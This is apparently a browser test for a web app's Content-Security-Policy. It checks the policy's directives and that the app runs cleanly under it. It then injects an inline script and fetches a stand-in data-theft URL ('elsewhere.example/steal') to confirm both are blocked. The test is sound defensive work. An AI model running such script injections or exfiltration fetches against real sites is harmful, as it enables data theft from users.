// The page's Content-Security-Policy: the built page carries it with its loader script's hash filled in,
// the app runs under it without a single violation, and it stops what it is there to stop — injected
// scripts and fetches to hosts the app has no business with.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, shots, cspViolations, withBrowser } from './browser.mjs';
import path from 'node:path';

let server;
before(async () => { server = await startServer(); });
after(() => server.stop());

test('the app runs under its Content-Security-Policy, which blocks injected scripts and foreign fetches', { timeout: 240_000 }, async () => {
  await withBrowser({ webgpu: false, failure: 'csp-failure.png' }, async (browser) => {
    const { page } = browser;
    await page.goto(server.url);
    const policy = await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content');
    assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'(;| )/);
    assert.doesNotMatch(policy, /inline-script-hashes|unsafe-inline/);
    assert.match(policy, /connect-src 'self' https:\/\/huggingface\.co /);

    // The app mounts and its engine check (a real training step) passes: the wasm compiled and ran.
    await page.locator('[data-testid=engine-check][data-status=passed]').waitFor({ state: 'attached', timeout: 200_000 });
    assert.deepEqual(cspViolations(browser.log), []);

    const blocked = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const script = document.createElement('script');
      script.textContent = 'window.injected = true;';
      document.body.append(script);
      const fetched = await fetch('https://elsewhere.example/steal').then(() => 'fetched', () => 'refused');
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { ran: window.injected === true, fetched, violations };
    });
    assert.equal(blocked.ran, false, 'an injected inline script ran');
    assert.equal(blocked.fetched, 'refused');
    assert.deepEqual(blocked.violations.sort(), ['connect-src', 'script-src-elem']);
    await page.screenshot({ path: path.join(shots, 'csp.png'), fullPage: true });
  });
});
